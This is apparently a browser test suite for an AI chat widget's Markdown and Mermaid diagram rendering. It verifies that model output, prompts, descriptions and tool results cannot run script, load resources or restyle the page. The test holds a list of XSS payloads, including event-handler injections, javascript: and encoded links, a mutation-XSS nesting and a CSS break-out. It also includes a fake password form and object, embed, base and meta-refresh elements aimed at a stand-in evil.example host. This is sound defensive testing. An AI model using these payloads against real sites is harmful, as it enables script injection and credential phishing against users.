// The promise: Markdown of a model is drawn, diagrams too, and whatever in it could act, load or style does nothing: no script runs,
// no request leaves, and nothing of the page changes; outside of the frame of diagrams no policy has to be what prevents it.

import { expect, test } from 'vitest';
import { openBrowser, visit } from './support/browser.ts';
import { askWidget, forgive, visitHost } from './support/host-page.ts';
import { servePage, TypingModel } from './support/page-server.ts';

const browser = openBrowser();

async function draw(text: string, name = 'shop') {
  const model = new TypingModel();
  const agent = { name, description: '<img src=x onerror="hacked=1">', instructions: 'You know.', model };
  const hosted = await visitHost(browser(), [agent], {
    attributes: 'heading="<script>hacked=2</script>"',
    style: `ai-agent-chat { --ai-agent-font: Georgia, "x; } * { display: none", serif }`,
  });
  const { page } = hosted;
  await askWidget(page, '<img src=x onerror="hacked=3"><script>hacked=4</script>');
  const typing = await model.next();
  // Piece by piece, so that every half of it is drawn at some time.
  for (const piece of text.match(/[\s\S]{1,23}/g) ?? []) typing.say(piece);
  typing.say('\n\nThe end.').end();
  await page.locator('.markdown', { hasText: 'The end.' }).waitFor();
  await page.getByRole('button', { name: 'Send' }).waitFor();
  return { ...hosted, answer: page.locator('article') };
}

const inside = "document.querySelector('ai-agent-chat').shadowRoot";

const hostile = `
<script>hacked = 5</script>
<img src="x" onerror="hacked = 6"> <svg onload="hacked = 7"><script>hacked = 8</script></svg>
<iframe src="javascript:parent.hacked = 9" srcdoc="<script>parent.hacked = 10</script>"></iframe>
<style>body { display: none !important }</style> <link rel="stylesheet" href="https://evil.example/a.css">
<form action="https://evil.example"><input name="password"><button>Sign in</button></form>
<a href="javascript:hacked = 11" onclick="hacked = 12">one</a>
<div style="position: fixed; inset: 0" id="root" class="unseen">over all</div>
<details open ontoggle="hacked = 14"><summary>More</summary>Inside</details>
<math><mtext></form><form><mglyph><style></math><img src onerror="hacked = 15"></style></mglyph></form></mtext></math>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><base href="https://evil.example/">
<img src="//evil.example/b.png" alt="near">
<meta http-equiv="refresh" content="0;url=https://evil.example/"> <a href="&#106;avascript:hacked=17">four</a>

[two](javascript:hacked=13), [three](data:text/html,x), ![far](https://evil.example/far.png), ![odd](javascript:hacked=16)
`;

test('HTML that acts, loads or styles is not drawn; what sets out a text is', async () => {
  const { page, answer } = await draw(`${hostile}\n\nH<sub>2</sub>O and <kbd>Esc</kbd> &eacute;`);
  expect(await page.evaluate('typeof hacked')).toBe('undefined');
  const acting =
    'script, style, link, iframe, form, input, svg, math, object, embed, base, meta, [style]:not([dir]), [onclick], [onerror]';
  expect(await answer.locator(acting).count()).toBe(0);
  expect(await answer.locator('img').count()).toBe(0);
  const links = await page.evaluate(
    `[...${inside}.querySelectorAll('article a')].map((a) => [a.textContent, a.href, a.rel, a.target])`,
  );
  const outside = ['noopener noreferrer nofollow', '_blank'];
  expect(links).toEqual([['far', 'https://evil.example/far.png', ...outside]]);
  expect(await answer.textContent()).toContain('two, three, far, odd');
  expect(await answer.textContent()).toContain('H2O and Esc é');
  expect(await answer.locator('sub, kbd, details').count()).toBe(3);
  expect(await page.getByRole('heading', { name: 'A shop' }).isVisible()).toBe(true);
  expect(await page.locator('.asked').textContent()).toContain('<script>hacked=4</script>');
});

test('in our own page neither: not as an answer, a prompt, a title, a description, nor as what a tool gave', async () => {
  const model = new TypingModel();
  const give = { name: 'give', description: 'Gives', inputSchema: { type: 'object' }, execute: () => hostile } as const;
  const agent = { name: 'shop', description: hostile, instructions: hostile, model, tools: [give] };
  const { url } = await servePage([agent]);
  const { page } = await visit(browser(), url);
  await page.getByRole('textbox').first().fill(hostile);
  await page.keyboard.press('Enter');
  (await model.next()).think(hostile).end([{ name: 'give', input: { what: hostile, reason: hostile } }]);
  (await model.next()).say(`${hostile}\n\nThe end.`).end();
  await page.locator('.markdown', { hasText: 'The end.' }).waitFor();
  expect(await page.evaluate('typeof hacked')).toBe('undefined');
  const acting =
    'script, style, link, iframe, [action], svg script, math, object, embed, base, meta, [onclick], [onerror]';
  expect(await page.locator('#page').locator(acting).count()).toBe(0);
  expect(new URL(page.url()).origin).toBe(new URL(url).origin);
});

test('tables, tasks, footnotes, code and images of the text itself are drawn; links within a text leave the address alone', async () => {
  const dot = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';
  const { page, answer } = await draw(
    `![dot](${dot})\n\n${'| a | b |\n| --- | ---: |\n| 1 | 2 |\n\n- [x] done\n\nSee[^1].\n\n```ts\nconst a = 1;\n```\n\n[^1]: A note.\n'}`,
  );
  expect(await answer.getByRole('img', { name: 'dot' }).count()).toBe(1);
  expect(await answer.locator('table td').allTextContents()).toEqual(['1', '2']);
  expect(await answer.locator('input[type=checkbox]:disabled:checked').count()).toBe(1);
  expect(await answer.locator('pre code').textContent()).toBe('const a = 1;');
  await page.emulateMedia({ reducedMotion: 'reduce' });
  await page.evaluate('Element.prototype.scrollIntoView = ({ behavior }) => (globalThis.moved = behavior)');
  await answer.locator('sup a').click();
  expect(await page.evaluate('moved')).toBe('instant');
  expect(new URL(page.url()).hash).toBe('');
  expect(await page.evaluate(`${inside}.activeElement.tagName`)).toBe('LI');
});

test('a diagram is drawn in a frame without an origin; one that is wrong is shown as its source', async () => {
  const { page, answer, problems } = await draw(
    '```mermaid\nflowchart LR\n  A["<img src=x onerror=hacked=1>Ask"] --> B[Answer]\n  click A href "javascript:hacked=2"\n  click B href "https://evil.example/sign-in"\n```\n\n```mermaid\nflowchart LR\n  A --> [\n```\n',
  );
  await answer.locator('figure.diagram[data-state=drawn]').waitFor();
  await answer.getByText('This diagram cannot be drawn').waitFor();
  const [, frame] = page.frames();
  expect(await frame?.locator('svg').textContent()).toContain('Ask');
  // In the typeface of its place, but for names that would be more than that.
  expect(await frame?.evaluate('getComputedStyle(document.querySelector("svg text")).fontFamily')).toBe(
    'Georgia, serif',
  );
  expect(await frame?.evaluate(widthBeside)).toBeLessThan(80);
  expect(await frame?.evaluate('[origin, typeof hacked]')).toEqual(['null', 'undefined']);
  // Another page in its place would look like a part of ours.
  await frame?.locator('.node').last().click();
  await frame?.evaluate('new Promise((resolve) => setTimeout(resolve, 100))');
  expect(frame?.url()).toContain('/diagram.html');
  expect(await answer.locator('pre').textContent()).toContain('A --> [');
  await answer.getByRole('button', { name: 'Show the source' }).click();
  expect(await answer.locator('pre').first().textContent()).toContain('click A href');
  // What draws it tries out labels as they are; its frame, which is there for that, has nothing of it.
  forgive(problems, 'Executing inline event handler');
});

/** How much wider the box of the last node is than its words. */
const widthBeside = `(() => {
  const [box, words] = ['rect.label-container', 'text'].map((one) => [...document.querySelectorAll('.node ' + one)].at(-1));
  return box.getBBox().width - words.getBBox().width;
})()`;
